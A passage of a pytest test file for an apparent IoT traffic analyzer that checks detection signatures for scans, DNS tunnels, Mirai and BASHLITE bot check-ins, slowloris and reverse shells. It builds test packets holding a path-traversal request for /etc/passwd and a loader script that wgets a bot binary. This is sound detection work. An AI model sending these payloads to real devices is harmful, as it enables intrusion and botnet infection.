    assert signature(Flow.udps.request_signature).name == "DNS tunnel (encoded names)"


def test_sample_dns_tunnel_is_c2_with_the_signature_as_reason() -> None:
    proc = run_iotscan("analyze", SAMPLES / "dns-tunnel-dnscat2.pcap", "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    assert len(flows) == 3  # dnscat2 keeps three sockets to the resolver, and each is caught
    for r in flows:
        assert r["verdict"] == "attack" and r["family"] == "c2" and r["score"] == 1.0, r
        assert r["reasons"][0] == "DNS queries matched a tunnel signature: DNS tunnel (encoded names)"
        assert r["protocol"] == 17 and r["dst_port"] == 53


def test_request_pass_reads_the_shared_dns_tunnels() -> None:
    require_shared()
    for name, expected in [("dns-tunnel-iodine.pcap", "DNS tunnel (NULL records)"),
                           ("dns_exfiltration.pcap", "DNS tunnel (encoded names)")]:
        path = str(NDPI_PCAPS / name)
        found = read_requests(path, MeterConfig(source=path))
        assert found.matched == 1, name  # one socket each, which carries the whole tunnel
        codes = {code for matches in found.by_endpoints.values() for _, code in matches}
        assert [signature(c).name for c in codes] == [expected]


def _tcp6(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
          payload: bytes = b"") -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 65535, 0, 0) + payload
    ip6 = struct.pack("!IHBB", 0x60000000, len(tcp), 6, 64) + src + dst
    return b"\x02\0\0\0\0\x02" + b"\x02\0\0\0\0\x01" + b"\x86\xdd" + ip6 + tcp


@pytest.mark.parametrize(("payload", "family", "reason"), [
    (b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: [fd00::1]\r\n\r\n", "exploit",
     "HTTP request matched an exploit signature: path traversal"),
    (b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n", "scan",
     "HTTP request matched a scanner signature: nmap service probe"),
    (BOT_CHECKIN, "c2", "a bot's check-in with its controller: Mirai bot check-in"),  # the filter's own IPv6 part
])
def test_ipv6_requests_are_read(tmp_path: Path, payload: bytes, family: str, reason: str) -> None:
    client, server = bytes.fromhex("fd00" + "00" * 13 + "02"), bytes.fromhex("fd00" + "00" * 13 + "01")
    capture = tmp_path / "ipv6-request.pcap"
    write_pcap(capture, [
        _tcp6(client, server, 40000, 80, 1, 0, 0x02),
        _tcp6(server, client, 80, 40000, 9, 2, 0x12),
        _tcp6(client, server, 40000, 80, 2, 10, 0x10),
        _tcp6(client, server, 40000, 80, 2, 10, 0x18, payload),
        _tcp6(server, client, 80, 40000, 10, 2 + len(payload), 0x18, b"HTTP/1.1 404 Not Found\r\n\r\n"),
    ])
    found = read_requests(str(capture), MeterConfig(source=str(capture)))
    assert [signature(code).reason for _, code in found.by_endpoints[("fd00::2", 40000, "fd00::1", 80)]] == [reason]
    proc = run_iotscan("analyze", capture, "-f", "ndjson", "--no-devices", check_code=0)
    [flow] = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    assert (flow["verdict"], flow["family"], flow["score"]) == ("attack", family, 1.0)
    assert flow["reasons"][0] == reason


def _ether(ip_packet: bytes, ethertype: int, vlan: int | None) -> bytes:
    tag = b"" if vlan is None else struct.pack("!HH", 0x8100, vlan)
    return b"\x02\0\0\0\0\x02" + b"\x02\0\0\0\0\x01" + tag + struct.pack("!H", ethertype) + ip_packet


def _ip4(proto: int, src: int, dst: int, payload: bytes) -> bytes:
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0,
                       bytes([10, 0, 0, src]), bytes([10, 0, 0, dst])) + payload


def _tcp(sport: int, dport: int, flags: int, payload: bytes = b"") -> bytes:
    return struct.pack("!HHIIBBHHH", sport, dport, 1, 1, 0x50, flags, 65535, 0, 0) + payload


def _syn(window: int, dont_fragment: bool, sport: int = 40000) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, 23, 7, 0, 0x50, 0x02, window, 0, 0)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000 if dont_fragment else 0, 64, 6, 0,
                       bytes([10, 0, 0, 3]), bytes([10, 0, 0, 1])) + tcp


def _echo(data: bytes, icmp_type: int = 8) -> bytes:
    return _ip4(1, 3, 1, struct.pack("!BBHHH", icmp_type, 0, 0, 4242, 1) + data)


@pytest.mark.parametrize("vlan", [None, 7])
def test_the_whole_filter_lets_each_kind_through(tmp_path: Path, vlan: int | None) -> None:
    # One filter joins several: libpcap's optimizer once dropped the probes behind the HTTP expression
    # (its payload offset depends on the packet), so each kind is checked through the whole filter,
    # untagged and VLAN-tagged, beside packets it must drop.
    request = b"GET /a/../../etc/passwd HTTP/1.1\r\nHost: cam\r\n\r\n"
    frames = [_ether(_ip4(6, 2, 1, _tcp(40000, 80, 0x18, request)), 0x0800, vlan)]
    frames += [_ether(_ip4(6, 3, 1, _tcp(50000 + i, 1000 + i, flags)), 0x0800, vlan)  # NULL, FIN, XMAS
               for i, flags in enumerate((0x00, 0x01, 0x29))]
    frames += [_ether(_ip4(17, 4, 1, struct.pack("!HHHH", 53000, 53, 0, 0) + dns_query_message(
        f"{i:02x}{'0123456789abcdef' * 2}.t.example.org", 16)), 0x0800, vlan) for i in range(3)]
    frames.append(_ether(_ip4(6, 3, 1, _tcp(50009, 1009, 0x10)), 0x0800, vlan))  # a bare ACK: no probe
    frames += [_ether(_syn(1024, False), 0x0800, vlan), _ether(_syn(1024, True, sport=40001), 0x0800, vlan)]
    frames += [_ether(_ip4(1, 5, 1, struct.pack("!BBHHH", 8, 0, 0, 1, 1)), 0x0800, vlan),  # a ping without data
               _ether(_ip4(1, 6, 1, struct.pack("!BBHHH", 8, 0, 0, 1, 1) + bytes(56)), 0x0800, vlan)]
    frames.append(_ether(_ip4(6, 7, 1, _tcp(40000, 6667, 0x18, b"NICK X86|b9d80f\r\n")), 0x0800, vlan))
    frames += [_ether(_ip4(6, 1, 8, _tcp(1883, 41000 + i, 0x18, b"\x20\x02\x00\x05")), 0x0800, vlan)
               for i in range(5)]  # five refused logins: guessing
    frames += [_ether(_ip4(6, 1, 9, _tcp(23, 42000 + i, 0x18, b"Login incorrect\r\n")), 0x0800, vlan)
               for i in range(5)]
    frames += [_ether(_ip4(6, 10, 1, _tcp(43000 + i, 22, 0x18, b"SSH-2.0-libssh_0.10.6\r\n")), 0x0800, vlan)
               for i in range(5)]
    frames.append(_ether(_ip4(6, 11, 1, _tcp(44000, 33333, 0x18, b"#!/bin/sh\nid\n")), 0x0800, vlan))
    frames.append(_ether(_ip4(6, 12, 1, _tcp(45000, 666, 0x18, b"BUILD X86\n")), 0x0800, vlan))
    frames.append(_ether(_ip4(6, 13, 1, _tcp(46000, 23, 0x18, b"\x00\x00\x00\x01")), 0x0800, vlan))
    capture = tmp_path / "each-kind.pcap"
    write_pcap(capture, frames)
    found = read_requests(str(capture), MeterConfig(source=str(capture)))
    names = {key: signature(code).name for key, matches in found.by_endpoints.items() for _, code in matches}
    assert names == {("10.0.0.2", 40000, "10.0.0.1", 80): "path traversal",
                     ("10.0.0.3", 50000, "10.0.0.1", 1000): "NULL/FIN/XMAS probe",
                     ("10.0.0.3", 50001, "10.0.0.1", 1001): "NULL/FIN/XMAS probe",
                     ("10.0.0.3", 50002, "10.0.0.1", 1002): "NULL/FIN/XMAS probe",
                     ("10.0.0.4", 53000, "10.0.0.1", 53): "DNS tunnel (encoded names)",
                     ("10.0.0.3", 40000, "10.0.0.1", 23): "scanner SYN (window 1024, no DF)",
                     ("10.0.0.5", 0, "10.0.0.1", 0): "ping without data (nmap host discovery)",
                     ("10.0.0.7", 40000, "10.0.0.1", 6667): "IRC bot nick naming its CPU",
                     **{("10.0.0.1", 1883, "10.0.0.8", 41000 + i): "MQTT login refused" for i in range(5)},
                     **{("10.0.0.1", 23, "10.0.0.9", 42000 + i): "telnet login refused" for i in range(5)},
                     **{("10.0.0.10", 43000 + i, "10.0.0.1", 22): "SSH connection" for i in range(5)},
                     ("10.0.0.11", 44000, "10.0.0.1", 33333):
                         "shell script sent over TCP (a loader or a reverse shell)",
                     ("10.0.0.12", 45000, "10.0.0.1", 666): "BASHLITE (Gafgyt) bot check-in naming its CPU",
                     ("10.0.0.13", 46000, "10.0.0.1", 23): "Mirai bot check-in"}


@pytest.mark.parametrize(("flags", "expected"), [
    (0x00, "NULL/FIN/XMAS probe"), (0x01, "NULL/FIN/XMAS probe"), (0x29, "NULL/FIN/XMAS probe"),
    (0x02, None), (0x12, None), (0x10, None), (0x11, None), (0x04, None), (0x14, None), (0x18, None),
])
def test_tcp_flag_signature(flags: int, expected: str | None) -> None:
    sig = signature(match_packet(_ip4(6, 3, 1, _tcp(50000, 80, flags))))
    assert (None if sig is None else sig.name) == expected
    assert flag_text(0x29) == "fpu" and flag_text(0) == ""


_ELF = "Linux executable (ELF) sent over TCP or TFTP (a bot binary or payload stage)"
_SHELL = "Windows command shell banner sent over TCP (a bind or reverse shell)"


def _name(ip_packet: bytes) -> str | None:
    sig = signature(match_packet(ip_packet))
    return None if sig is None else sig.name


@pytest.mark.parametrize(("ip_packet", "expected"), [
    # nmap's and masscan's raw SYNs (Suricata: ET SCAN NMAP -sS window 1024); an OS's connect() sets DF
    (_syn(1024, False), "scanner SYN (window 1024, no DF)"),
    (_syn(1024, True), None), (_syn(64240, False), None), (_syn(64240, True), None),
    # nmap -sn's ping carries no data (Snort: ICMP PING NMAP); ping(8) sends 56 bytes, Windows 32
    (_echo(b""), "ping without data (nmap host discovery)"),
    (_echo(bytes(56)), None), (_echo(b"abcdefghijklmnopqrstuvwabcdefghi"), None), (_echo(b"", icmp_type=0), None),
    # IoT bots name their CPU in their IRC nick (IoT-23's Capture-34-1, Kaiten/Tsunami); people do not
    (_ip4(6, 2, 1, _tcp(40000, 6667, 0x18, b"NICK [ARM4T|HVLLTLBT]\r\nUSER TALMK localhost localhost :TALMK\r\n")),
     "IRC bot nick naming its CPU"),
    (_ip4(6, 2, 1, _tcp(40000, 7000, 0x18, b"NICK X86|b9d80f\r\nUSER b9d80f 0 * :x86\r\n")),
     "IRC bot nick naming its CPU"),
    (_ip4(6, 2, 1, _tcp(40000, 6667, 0x18, b"USER x 0 * :X\r\nNICK mips|4f2a\r\n")), "IRC bot nick naming its CPU"),
    (_ip4(6, 2, 1, _tcp(40000, 8000, 0x18, b"NICK molochtest\r\n")), None),
    (_ip4(6, 2, 1, _tcp(40000, 8000, 0x18, b"USER xxxxx +iw xxxxx :Xxxxxx Xxxx\r\n")), None),
    (_ip4(6, 2, 1, _tcp(40000, 21, 0x18, b"USER anonymous\r\n")), None),  # FTP's USER
    # a BASHLITE (Gafgyt) bot's first line names its build (its source: sockprintf(..., "BUILD %s", getBuild()))
    (_ip4(6, 2, 1, _tcp(40000, 666, 0x18, b"BUILD MIPS\n")), "BASHLITE (Gafgyt) bot check-in naming its CPU"),
    (_ip4(6, 2, 1, _tcp(40000, 23, 0x18, b"BUILD ARM7\r\nPONG\n")), "BASHLITE (Gafgyt) bot check-in naming its CPU"),
    (_ip4(6, 2, 1, _tcp(40000, 9000, 0x18, b"BUILD 2024.11 started\n")), None),
    (_ip4(6, 2, 1, _tcp(40000, 9000, 0x18, b"BUILD ARMOR-CI\n")), None),
    # a Mirai bot's check-in: 4 bytes of their own, then its id's length and id; not other 4-byte words
    (_ip4(6, 2, 1, _tcp(40000, 23, 0x18, b"\x00\x00\x00\x01")), "Mirai bot check-in"),
    (_ip4(6, 2, 1, _tcp(40000, 23, 0x18, b"\x00\x00\x00\x01\x06abcdef")), None),
    (_ip4(6, 2, 1, _tcp(40000, 23, 0x18, b"\x00\x00\x00\x02")), None),
    # a broker refusing credentials (CONNACK return code 4 or 5), a telnet server refusing a login
    (_ip4(6, 1, 2, _tcp(1883, 40000, 0x18, b"\x20\x02\x00\x05")), "MQTT login refused"),
    (_ip4(6, 1, 2, _tcp(1883, 40000, 0x18, b"\x20\x02\x00\x04")), "MQTT login refused"),
    (_ip4(6, 1, 2, _tcp(1883, 40000, 0x18, b"\x20\x02\x00\x00")), None),  # accepted
    (_ip4(6, 1, 2, _tcp(23, 40000, 0x18, b"Login incorrect\r\r\n")), "telnet login refused"),
    (_ip4(6, 1, 2, _tcp(23, 40000, 0x18, b"\r\nLogin incorrect\r\n\r\ncam login: ")), "telnet login refused"),
    (_ip4(6, 1, 2, _tcp(23, 40000, 0x18, b"\r\r\nnetcam login: ")), None),
    # every SSH connection starts with an identification line: the pass counts them between two hosts
    (_ip4(6, 2, 1, _tcp(40000, 22, 0x18, b"SSH-2.0-libssh_0.10.6\r\n")), "SSH connection"),
    (_ip4(6, 1, 2, _tcp(22, 40000, 0x18, b"SSH-2.0-dropbear_2022.83\r\n\x00\x00\x01\xfc")), "SSH connection"),
    # files sent raw over a connection: a loader's or reverse shell's script, a stager's executable
    (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#!/bin/sh\ncd /tmp; wget http://10.0.0.9/x.arm7\n")),
     "shell script sent over TCP (a loader or a reverse shell)"),
    (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#! /usr/bin/env bash\nid\n")),
     "shell script sent over TCP (a loader or a reverse shell)"),
    (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"MZ\x90\x00" + bytes(60) + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!"
                                         b"This program cannot be run in DOS mode.\r\r\n$")),
     "Windows executable sent over TCP (a payload stage)"),
    (_ip4(6, 2, 1, _tcp(40000, 33333, 0x18, b"#!python\nprint(1)\n")), None),
    (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"MZ" + bytes(200))), None),  # no DOS stub: no executable
    # a Linux executable (ELF: magic, then class and data bytes), raw, as a loader pushes it or an HTTP body in
    # the headers' segment, or a TFTP data block; not an ELF-like word
    (_ip4(6, 1, 2, _tcp(33333, 40000, 0x18, b"\x7fELF\x01\x01\x01" + bytes(60))), _ELF),
    (_ip4(6, 1, 2, _tcp(80, 40000, 0x18, b"HTTP/1.1 200 OK\r\nContent-Length: 9000\r\n\r\n\x7fELF\x02\x01\x01")),
     _ELF),
    (_ip4(6, 1, 2, _tcp(80, 40000, 0x18, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>")), None),
    (_ip4(17, 1, 2, struct.pack("!HHHH", 33000, 40000, 8 + 68, 0) + b"\x00\x03\x00\x01\x7fELF\x01\x01\x01"
          + bytes(57)), _ELF),
    (_ip4(6, 1, 2, _tcp(33333, 40000, 0x18, b"\x7fELF\x09 is not a class")), None),
    # shells: cmd.exe's banner, a root id's output (bind and reverse shells); not a banner of another program
    (_ip4(6, 1, 2, _tcp(4444, 40000, 0x18, b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft "
                                         b"Corporation. All rights reserved.\r\n\r\nC:\\>")), _SHELL),
    (_ip4(6, 1, 2, _tcp(1957, 40000, 0x18, b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 "
                                         b"Microsoft Corp.\r\n")), _SHELL),
    (_ip4(6, 1, 2, _tcp(80, 40000, 0x18, b"Microsoft Windows Update Agent 7.6\r\n")), None),
    (_ip4(6, 2, 1, _tcp(40000, 4242, 0x18, b"uid=0(root) gid=0(root) groups=0(root)\n")),
     "id command output showing root sent over TCP (a shell)"),
    (_ip4(6, 2, 1, _tcp(40000, 4242, 0x18, b"uid=1000(pi) gid=1000(pi)\n")), None),
    # an FTP server refusing a login (counted between two hosts, as a telnet server's refusals)
    (_ip4(6, 1, 2, _tcp(21, 40000, 0x18, b"530 Login incorrect.\r\n")), "FTP login refused"),
    (_ip4(6, 1, 2, _tcp(21, 40000, 0x18, b"230 Login successful.\r\n")), None),
])
def test_probe_command_and_reply_signatures(ip_packet: bytes, expected: str | None) -> None:
    assert _name(ip_packet) == expected


def test_shared_tcp_scan_probes_are_read() -> None:
    require_shared()
    path = str(NDPI_PCAPS / "tcp_scan.pcapng")
    found = read_requests(path, MeterConfig(source=path))
    # the capture's NULL, FIN and XMAS probes, and nmap's raw SYN to 3389 (window 1024); its three other
    # connects are an OS's ordinary SYNs
    assert found.matched == 4
    assert sorted(signature(code).name for matches in found.by_endpoints.values() for _, code in matches) == \
        ["NULL/FIN/XMAS probe"] * 3 + ["scanner SYN (window 1024, no DF)"]
    # ... which come from the same scanner to the same host: analyze names all seven scan flows
    proc = run_iotscan("analyze", path, "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    assert len(flows) == 7 and all(r["verdict"] == "attack" and r["family"] == "scan" for r in flows)


def _tcp_at(client: int, port: int, seq: int, flags: int, payload: bytes = b"", reply: bool = False) -> bytes:
    """An Ethernet frame of a TCP segment from 10.0.0.<client>:<port> to 10.0.0.1:80 (``reply``: back),
    unpadded: a 2-byte segment is a 56-byte frame, as a capture taken at the sender holds it."""
    ports, hosts = ((80, port), (1, client)) if reply else ((port, 80), (client, 1))
    tcp = struct.pack("!HHIIBBHHH", *ports, seq, 1, 0x50, flags, 65535, 0, 0) + payload
    return _ether(_ip4(6, *hosts, tcp), 0x0800, None)


def _requests(src: int, count: int, lines: list[bytes], every_s: float, first_port: int = 40000,
              finished: bool = False) -> list[tuple[float, bytes]]:
    """``count`` connections from 10.0.0.<src> to port 80, 0.1 s apart, each sending a request head's
    first lines, then ``lines`` one segment each, every_s apart (``finished``: after the blank line that
    ends the head, sent alone)."""
    frames = []
    for i in range(count):
        port, t = first_port + i, i * 0.1
        frames += [(t, _tcp_at(src, port, 0, 0x02)), (t + 0.001, _tcp_at(src, port, 0, 0x12, reply=True)),
                   (t + 0.002, _tcp_at(src, port, 1, 0x10)),
                   (t + 0.003, _tcp_at(src, port, 1, 0x18, b"GET / HTTP/1.1\r\nHost: 10.0.0.1\r\n"))]
        if finished:
            frames.append((t + 0.004, _tcp_at(src, port, 2, 0x18, b"\r\n")))
        frames += [(t + 0.01 + (k + 1) * every_s, _tcp_at(src, port, 10 + k, 0x18, line))
                   for k, line in enumerate(lines)]
    return frames


def test_request_heads_held_open_over_ipv6(tmp_path: Path) -> None:
    # the filter finds an IPv6 segment's last bytes from the payload length of the fixed header
    client, server = bytes.fromhex("fd00" + "00" * 13 + "02"), bytes.fromhex("fd00" + "00" * 13 + "01")
    frames: list[tuple[float, bytes]] = []
    for i in range(11):
        port, t = 40000 + i, i * 0.1
        frames += [(t, _tcp6(client, server, port, 80, 1, 0, 0x02)),
                   (t + 0.001, _tcp6(server, client, 80, port, 9, 2, 0x12)),
                   (t + 0.002, _tcp6(client, server, port, 80, 2, 10, 0x18, b"GET / HTTP/1.1\r\nHost: cam\r\n"))]
        frames += [(t + 2.0 * (k + 1), _tcp6(client, server, port, 80, 30 + k, 10, 0x18, b"X-a: %d\r\n" % k))
                   for k in range(3)]
    capture = tmp_path / "slow-heads6.pcap"
    write_timed_pcap(capture, frames)
    found = read_requests(str(capture), MeterConfig(source=str(capture)))
    held = {signature(code).name for matches in found.by_endpoints.values() for _, code in matches}
    assert len(found.by_endpoints) == 11 and held == {"HTTP request head held open 5 s or more (slowloris)"}


def test_request_heads_held_open_by_eleven_connections_are_a_slowloris(tmp_path: Path) -> None:
    held = next(code for code, s in enumerate(SIGNATURES, start=1) if s.where == "held")
    sig = signature(held)
    # HAProxy's anti-DoS timeout for a whole request, ModSecurity's count of one address's reading connections
    assert (sig.family, sig.min_pair_count, sig.pair_window_ms) == ("dos", 11, 120_000)
    header_lines = [b"X-a: %d\r\n" % k for k in range(4)]
    capture = tmp_path / "slow-heads.pcap"
    frames = _requests(3, 11, header_lines, every_s=2.0)  # heads unfinished after 8 s: held open
    frames += _requests(4, 10, header_lines, every_s=2.0)  # ten: one short of the count
    frames += _requests(5, 11, header_lines[:1], every_s=8.0)  # 8 s, but two segments of head: a stall
    frames += _requests(6, 11, header_lines, every_s=1.0)  # 4 s: not yet held open
    # heads ended by a blank line sent alone (a 2-byte segment), then short lines of a body: no head open
    frames += _requests(7, 11, [b"line %d\r\n" % k for k in range(4)], every_s=2.0, finished=True)
    write_timed_pcap(capture, frames)
    found = read_requests(str(capture), MeterConfig(source=str(capture)))
    names = {key: [signature(code).name for _, code in matches] for key, matches in found.by_endpoints.items()}
    assert names == {("10.0.0.3", 40000 + i, "10.0.0.1", 80): [sig.name] for i in range(11)}
    proc = run_iotscan("analyze", capture, "-f", "ndjson", "--no-devices", check_code=0)
    flows = [r for r in ndjson(proc.stdout) if r["event_type"] == "flow"]
    by_signature = {r["src_ip"] for r in flows if r["reasons"] and sig.name in r["reasons"][0]}
    assert by_signature == {"10.0.0.3"}  # (55 connections to one host in a second: the model may see a flood)
    for r in (r for r in flows if r["src_ip"] == "10.0.0.3"):
        assert (r["verdict"], r["family"], r["score"]) == ("attack", "dos", 1.0)
        assert r["reasons"][0] == f"{sig.name}, 11 or more between the same two hosts within 2 minutes"



@pytest.mark.parametrize(("host", "matched"), [(b"10.0.0.9", True), (b"10.0.0.9:8080", True), (None, True),
                                               (b"updates.example.com", False)])
def test_an_executable_counts_when_fetched_by_address_not_by_name(tmp_path: Path, host: bytes | None,
                                                                   matched: bool) -> None:
    # a loader fetches its bot by address (wget http://1.2.3.4/bins/x.arm7); an updater its firmware by name
    from tests.frames import ether, ipv4, tcp

    head = b"GET /bins/x.arm7 HTTP/1.0\r\n" + (b"Host: " + host + b"\r\n" if host else b"") + b"\r\n"
    frames = [ipv4("10.0.0.2", "10.0.0.9", 6, tcp(40000, 80, 0x02)),
              ipv4("10.0.0.9", "10.0.0.2", 6, tcp(80, 40000, 0x12)),
              ipv4("10.0.0.2", "10.0.0.9", 6, tcp(40000, 80, 0x18, head)),
              ipv4("10.0.0.9", "10.0.0.2", 6, tcp(80, 40000, 0x18, b"HTTP/1.0 200 OK\r\nContent-Length: 70\r\n\r\n")),
              ipv4("10.0.0.9", "10.0.0.2", 6, tcp(80, 40000, 0x18, b"\x7fELF\x01\x01\x01" + bytes(63)))]
    capture = tmp_path / "download.pcap"
    write_pcap(capture, [ether(f) for f in frames])
    found = read_requests(str(capture), MeterConfig(source=str(capture)))
    codes = [code for matches in found.by_endpoints.values() for _, code in matches]
    assert [signature(c).name for c in codes] == ([_ELF] if matched else [])
